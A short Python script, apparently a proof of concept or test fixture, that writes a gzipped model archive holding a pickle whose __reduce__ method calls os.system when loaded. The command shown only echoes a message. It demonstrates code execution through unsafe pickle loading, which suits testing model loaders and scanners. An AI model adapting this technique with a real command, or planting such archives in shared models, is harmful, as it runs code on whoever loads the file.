"""Writes a model archive whose pickle would run a command (it only echoes) when
it is loaded. Usage: poison.py FILE"""
import io
import os
import pickle
import sys
import tarfile


class Poison:
    def __reduce__(self):
        return os.system, ("echo a poisoned model was loaded",)


body = pickle.dumps(Poison())
with tarfile.open(sys.argv[1], "w:gz") as archive:
    member = tarfile.TarInfo("model.pkl")
    member.size = len(body)
    archive.addfile(member, io.BytesIO(body))
